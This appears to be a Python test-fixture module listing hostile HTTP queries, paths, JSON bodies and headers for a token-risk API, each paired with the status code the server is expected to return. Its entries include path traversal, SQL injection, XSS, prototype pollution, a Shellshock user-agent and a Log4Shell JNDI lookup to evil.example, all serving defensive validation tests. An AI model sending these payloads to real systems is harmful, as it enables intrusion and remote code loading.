"""Hostile requests as they arrive, with what has to come of them: status and code."""

import json
from collections.abc import Mapping
from typing import Any, Final

from local.samples.addresses import address_of

GOOD: Final = "200"
BAD_QUERY, BAD_ID, NO_ROUTE = "400 invalid_parameter", "400 invalid_token_id", "404 route_not_found"
BAD_BODY, LONG_BODY = "400 invalid_body", "413 body_too_long"

QUERIES: Mapping[str, str] = {
    # Of /api/tokens. Paging is read kindly, all else strictly, and nothing twice.
    "": GOOD, "&": GOOD, "&&&&": GOOD, "=": GOOD, "=&=": BAD_QUERY, "q": GOOD, "q=": GOOD, "q=&q=": BAD_QUERY, "q=a&q=b": BAD_QUERY, "q=a&Q=b": GOOD,
    "q=%": GOOD, "q=%2": GOOD, "q=%zz": GOOD, "q=%00": GOOD, "q=%ff": GOOD, "q=%c0%ae": GOOD, "q=%ed%a0%80": GOOD, "q=%f4%90%80%80": GOOD, "q=%e2%80%ae": GOOD, "q=%25%30%30": GOOD,
    "q=%u0041": GOOD, "q=a+b": GOOD, "q=a%2bb": GOOD, "q=a;b": GOOD, "q=a;page=2": GOOD, "q[]=a": GOOD, "q[$ne]=a": GOOD, "q.x=a": GOOD, "%71=a&q=b": BAD_QUERY, "q==": GOOD, "q=?": GOOD, "q=#": GOOD,
    "page=1&page=1": BAD_QUERY, "page=-1": GOOD, "page=0": GOOD, "page=1e9": GOOD, "page=99999999999999999999": GOOD, "page=1&per_page=0": GOOD, "per_page=101": GOOD, "per_page=-1": GOOD, "per_page=1000000000": GOOD,
    "sort=": GOOD, "sort=newest": GOOD, "sort=NEWEST": GOOD, "sort=oldest": BAD_QUERY, "sort=newest,riskiest": BAD_QUERY, "sort=newest%00": BAD_QUERY, "sort=+newest": BAD_QUERY, "sort=1": BAD_QUERY,
    "risk_level=Safe": GOOD, "risk_level=sAfE": GOOD, "risk_level=%C5%BFafe": BAD_QUERY, "risk_level=Safe%20": BAD_QUERY, "risk_level=*": BAD_QUERY, "risk_level[]=Safe": GOOD,
    "cursor=": GOOD, "cursor=x": BAD_QUERY, "cursor=~": BAD_QUERY, "cursor=1~": BAD_QUERY, "cursor=newest~1~x": GOOD, "cursor=newest~NaN~x": BAD_QUERY, "cursor=newest~1e400~x": BAD_QUERY, "cursor=-1": BAD_QUERY,
    "__proto__=1": GOOD, "constructor[prototype][x]=1": GOOD, "callback=alert(1)": GOOD, "jsonp=x": GOOD, "_method=DELETE": GOOD, "admin=true": GOOD, "debug=1": GOOD,
    "&".join(f"a{n}=1" for n in range(50)): GOOD, "&".join(f"a{n}=1" for n in range(51)): BAD_QUERY, "q=" + "x" * 101: BAD_QUERY, "q=" + "%41" * 100: GOOD, "x=" + "y" * 50_000: GOOD,
}  # fmt: skip

_MINT = address_of("a hostile path")
PATHS: Mapping[str, str] = {
    "/predict/": BAD_ID, "/predict/%00": BAD_ID, "/predict/%": BAD_ID, "/predict/%zz": BAD_ID, "/predict/%ff%fe": BAD_ID, "/predict/%2f": BAD_ID, "/predict/..%2f..%2fetc": BAD_ID, "/predict/%2e%2e": BAD_ID,
    f"/predict/{_MINT}%00": BAD_ID, f"/predict/{_MINT}%20": BAD_ID, f"/predict/%20{_MINT}": BAD_ID, f"/predict/{_MINT};x": BAD_ID, f"/predict/{_MINT},{_MINT}": BAD_ID, f"/predict/{_MINT.lower()}0": BAD_ID, f"/predict/{_MINT}/": NO_ROUTE,
    f"/predict/{_MINT}/..": NO_ROUTE, f"//predict/{_MINT}": NO_ROUTE, f"/predict//{_MINT}": NO_ROUTE, f"/PREDICT/{_MINT}": NO_ROUTE, f"/predict/{_MINT}.json": BAD_ID, f"/predict/{_MINT}#x": BAD_ID, f"/predict/{_MINT}%0d%0a": BAD_ID,
    "/predict/" + "1" * 31: BAD_ID, "/predict/" + "1" * 33: BAD_ID, "/predict/" + "z" * 44: BAD_ID, "/predict/" + "x" * 60_000: BAD_ID, "/predict/" + "%31" * 10: BAD_ID, "/predict/\u0661": BAD_ID,
    "/api/tokens//history": BAD_ID, "/api/tokens/%2e%2e/history": BAD_ID, "/api/tokens/../history": BAD_ID, f"/api/tokens/{_MINT}/history/../explain": NO_ROUTE, f"/api/tokens/{_MINT}/": NO_ROUTE,
    "/api/tokens/x/explain": BAD_ID, "/badge/.svg": BAD_ID, "/badge/x.svg.svg": BAD_ID, "/badge/x.SVG": NO_ROUTE, "/badge/%2e%2e%2fx.svg": BAD_ID, "/card/.png": BAD_ID, "/card/x.png%00": NO_ROUTE, "/embed/": BAD_ID,
    "/image/": BAD_ID, "/image/x": BAD_ID, "/api/keys/../stats": NO_ROUTE, "/.env": NO_ROUTE, "/.git/config": NO_ROUTE, "/wp-login.php": NO_ROUTE, "/api/..%2fhealth": NO_ROUTE, "/api/%2e%2e/health": NO_ROUTE,
    "/api/health%00": NO_ROUTE, "/api/health;x=1": NO_ROUTE, "/api/health//": NO_ROUTE, "/api/health/.": NO_ROUTE, "/api\\health": NO_ROUTE, "/openapi.json/": NO_ROUTE, "/../openapi.json": NO_ROUTE, "": NO_ROUTE, "*": NO_ROUTE,
    "http://evil.example/": NO_ROUTE, "/cdn-cgi/local/scheduled": NO_ROUTE, "/.well-known/security.txt/..": NO_ROUTE, "/" + "a/" * 5_000: NO_ROUTE,
}  # fmt: skip

BODY_ROUTES: Final = ("/api/batch", "/api/keys", "/api/watches", "/api/probes")


def _deep(levels: int, inner: str = "1") -> bytes:
    return ('{"ids":' + "[" * levels + inner + "]" * levels + "}").encode()


NO_OBJECT: Mapping[str, bytes] = {
    "nothing": b"", "blank": b" \n\t ", "null": b"null", "true": b"true", "number": b"1", "text": b'"x"', "list": b"[]", "list of lists": b"[[]]", "half": b"{", "half a list": b"[", "no value": b'{"ids":}',
    "single quotes": b"{'ids': []}", "no quotes": b"{ids: []}", "comma behind": b'{"ids": [],}', "comment": b'{"ids": [] /* x */}', "two": b"{}{}", "garbage behind": b"{} x", "BOM": b"\xef\xbb\xbf{}", "UTF-16": '{"ids": []}'.encode("utf-16"),
    "UTF-32": '{"ids": []}'.encode("utf-32"), "not UTF-8": b'{"ids": ["\xff"]}', "overlong": b'{"ids": ["\xc0\xae"]}', "surrogate bytes": b'{"ids": ["\xed\xa0\x80"]}', "control in text": b'{"ids": ["\x01"]}', "line end in text": b'{"ids": ["a\nb"]}',
    "null byte": b"{}\x00", "null bytes": b"\x00" * 100, "bad escape": b'{"ids": ["\\x"]}', "half escape": b'{"ids": ["\\u12"]}', "deep list": b"[" * 1_500, "deep objects": b'{"a":' * 300 + b"1" + b"}" * 300, "deep but whole": _deep(65),
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 20, "form": b"ids=a&ids=b", "multipart": b"--x\r\ncontent-disposition: form-data; name=ids\r\n\r\nx\r\n--x--", "XML": b"<?xml version='1.0'?><ids/>", "YAML": b"ids:\n  - x",
    "pickle": b"\x80\x04\x95", "MessagePack": b"\x81\xa3ids\x90", "plus": b'{"ids": +1}', "leading zero": b'{"ids": 01}', "hexadecimal": b'{"ids": 0x1}',
}  # fmt: skip
"""No route takes these: they are no JSON objects. Each is below the limit of every route."""

_ID: Final = address_of("an id of a hostile body")


def _batch(**more: Any) -> bytes:
    return json.dumps({"ids": [_ID], **more}).encode()


def _key(**more: Any) -> bytes:
    return json.dumps({"name": "x", "scopes": ["read"], **more}).encode()


def _watch(**more: Any) -> bytes:
    return json.dumps({"token_id": _ID, "url": None, **more}).encode()


BODIES: Mapping[str, Mapping[bytes, str]] = {
    "/api/batch": {
        _batch(ids=[]): BAD_BODY, _batch(ids=None): BAD_BODY, _batch(ids=_ID): BAD_BODY, _batch(ids={}): BAD_BODY, _batch(ids={"0": _ID}): BAD_BODY, _batch(ids=[1]): BAD_BODY, _batch(ids=[None]): BAD_BODY, _batch(ids=[[_ID]]): BAD_BODY,
        _batch(ids=[True]): BAD_BODY, _batch(ids=["x" * 129]): BAD_BODY, _batch(ids=["x"] * 51): BAD_BODY, _batch(ids=["x"] * 50): GOOD, _batch(ids=["", " "]): GOOD, _batch(force_refresh="true"): BAD_BODY, _batch(force_refresh=1): BAD_BODY,
        _batch(force_refresh=None): BAD_BODY, b"{}": BAD_BODY, b'{"ids": ["x"], "ids": []}': BAD_BODY, b'{"ids": [], "ids": ["x"]}': GOOD, b'{"ids": NaN}': BAD_BODY, b'{"ids": [Infinity]}': BAD_BODY, b'{"ids": [1e999]}': BAD_BODY,
        b'{"ids": ["\\ud800"]}': GOOD, b'{"ids": ["\\u0000"]}': GOOD, b'{"ids": ["x"], "__proto__": {"force_refresh": true}}': GOOD, b'{"ids": ["x"], "x": ' + b"9" * 5_000 + b"}": GOOD, b'{"ids": ["x"]}' + b" " * 65_522: GOOD,
        b'{"ids": ["x"]}' + b" " * 65_523: LONG_BODY, b"[" * 70_000: LONG_BODY, b"x" * 1_000_000: LONG_BODY, _deep(60): BAD_BODY,
    },
    "/api/keys": {
        _key(name=""): BAD_BODY, _key(name=None): BAD_BODY, _key(name=1): BAD_BODY, _key(name=["x"]): BAD_BODY, _key(name="x" * 81): BAD_BODY, _key(name="a\u202eb"): BAD_BODY, _key(name="a\x00b"): BAD_BODY, _key(name="a\r\nb"): BAD_BODY,
        _key(scopes=[]): BAD_BODY, _key(scopes="read"): BAD_BODY, _key(scopes=["root"]): BAD_BODY, _key(scopes=["READ"]): BAD_BODY, _key(scopes=["read", "read"]): BAD_BODY, _key(scopes=["read "]): BAD_BODY, _key(scopes=[None]): BAD_BODY, _key(scopes={"admin": True}): BAD_BODY,
        _key(expires_in_days=0): BAD_BODY, _key(expires_in_days=-1): BAD_BODY, _key(expires_in_days=1.5): BAD_BODY, _key(expires_in_days="1"): BAD_BODY, _key(expires_in_days=3651): BAD_BODY, _key(expires_in_days=True): BAD_BODY, _key(expires_in_days=10**30): BAD_BODY,
        _key(daily_quota=0): BAD_BODY, _key(daily_quota=-5): BAD_BODY, _key(daily_quota=10**9 + 1): BAD_BODY, _key(daily_quota=[]): BAD_BODY, _key(id="0" * 16): BAD_BODY, _key(form="x"): BAD_BODY, _key(revoked_at=None): BAD_BODY, _key(__proto__={}): BAD_BODY,
        b'{"name": "x", "scopes": ["read"], "daily_quota": NaN}': "201", b'{"name": "x", "scopes": ["read"], "daily_quota": 1e400}': "201", b'{"name": "\\ud800", "scopes": ["read"]}': BAD_BODY, b'{"name": "x", "name": "y", "scopes": ["read"]}': "201",
        _key() + b" " * 2_000: LONG_BODY,
    },
    "/api/watches": {
        _watch(token_id=None): BAD_BODY, _watch(token_id=1): BAD_BODY, _watch(token_id=""): BAD_ID, _watch(token_id="x"): BAD_ID, _watch(token_id=[_ID]): BAD_BODY, _watch(url=""): BAD_BODY, _watch(url=1): BAD_BODY, _watch(url=["https://example.org/"]): BAD_BODY,
        _watch(url={"href": "x"}): BAD_BODY, _watch(url="x" * 2_049): BAD_BODY, _watch(style="loud"): BAD_BODY, _watch(style=None): BAD_BODY, _watch(style="slack"): BAD_BODY, _watch(style=1): BAD_BODY, _watch(style=["standard"]): BAD_BODY,
        _watch(chance_line=-0.1): BAD_BODY, _watch(chance_line=1.1): BAD_BODY, _watch(chance_line="0.5"): BAD_BODY, _watch(chance_line=True): BAD_BODY, _watch(chance_line=[]): BAD_BODY, _watch(chance_line=10**400): BAD_BODY, _watch(owner="administrator"): BAD_BODY,
        _watch(secret="x"): BAD_BODY, _watch(id="x"): BAD_BODY, b"{}": BAD_BODY, _watch() + b" " * 16_000: LONG_BODY,
    },
    "/api/probes": {
        b"{}": BAD_BODY, b'{"probes": []}': BAD_BODY, b'{"probes": {}}': BAD_BODY, b'{"probes": [1]}': BAD_BODY, b'{"probes": [{}]}': BAD_BODY, b'{"probes": [{"at": "now", "ok": true, "slowest_ms": 1}]}': BAD_BODY,
        b'{"probes": [{"at": "9999-12-31T23:59:59Z", "ok": true, "slowest_ms": 1}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": 1, "slowest_ms": 1}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": -1}]}': BAD_BODY,
        b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": 1, "version": "<b>"}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": 1, "x": 1}]}': BAD_BODY,
    },
}  # fmt: skip
"""By route. Non-finite numbers are read as null; of two equal names the last counts."""

HEADERS: Mapping[tuple[str, str], str] = {
    # Of /api/stats, which anybody may read.
    ("x-api-key", ""): GOOD, ("x-api-key", " "): GOOD, ("x-api-key", "x" * 10_000): "401 unauthorized", ("x-api-key", "tad_"): "401 unauthorized", ("x-api-key", "tad__"): "401 unauthorized",
    ("x-api-key", "tad_" + "0" * 16 + "_" + "0" * 64 + "0" * 8): "401 unauthorized", ("x-api-key", "' OR 1=1 --"): "401 unauthorized", ("x-api-key", "tad_\u0660"): "401 unauthorized", ("authorization", ""): GOOD, ("authorization", "Bearer"): GOOD,
    ("authorization", "Bearer "): GOOD, ("authorization", "bearer x"): "401 unauthorized", ("authorization", "BEARER x"): "401 unauthorized", ("authorization", "Bearer x y"): "401 unauthorized", ("authorization", "Bearer\tx"): GOOD,
    ("authorization", "Basic eDp5"): GOOD, ("authorization", "Negotiate x"): GOOD, ("authorization", "Bearer " + "x" * 10_000): "401 unauthorized", ("cookie", "x-api-key=wrong"): GOOD, ("cf-connecting-ip", ""): GOOD, ("cf-connecting-ip", "x"): GOOD,
    ("cf-connecting-ip", "999.999.999.999"): GOOD, ("cf-connecting-ip", "::1%eth0"): GOOD, ("cf-connecting-ip", "' OR 1=1"): GOOD, ("cf-connecting-ip", "x" * 5_000): GOOD, ("x-forwarded-for", "127.0.0.1"): GOOD, ("x-forwarded-host", "evil.example"): GOOD,
    ("x-original-url", "/api/keys"): GOOD, ("x-rewrite-url", "/api/keys"): GOOD, ("x-http-method-override", "DELETE"): GOOD, ("content-type", "x"): GOOD, ("content-length", "-1"): GOOD, ("transfer-encoding", "chunked"): GOOD, ("accept", "*/*;q=" + "9" * 500): GOOD,
    ("accept", "text/html" + ",x" * 2_000): GOOD, ("accept-language", "de;q=NaN"): GOOD, ("if-none-match", '"' * 1_000): GOOD, ("if-none-match", "*"): "304", ("if-modified-since", "yesterday"): GOOD, ("range", "bytes=0-18446744073709551615"): GOOD,
    ("range", "bytes=" + "0-," * 2_000): GOOD, ("origin", "null"): GOOD, ("origin", "https://evil.example"): GOOD, ("host", "evil.example"): GOOD, ("expect", "100-continue"): GOOD, ("upgrade", "websocket"): GOOD, ("last-event-id", "-1"): GOOD,
    ("user-agent", "() { :; }; echo x"): GOOD, ("user-agent", "${jndi:ldap://evil.example/x}"): GOOD, ("referer", "<script>alert(1)</script>"): GOOD, ("x-request-id", "chosen-by-me"): GOOD, ("server-timing", "x"): GOOD, ("__proto__", "x"): GOOD, ("", "x"): GOOD,
}  # fmt: skip
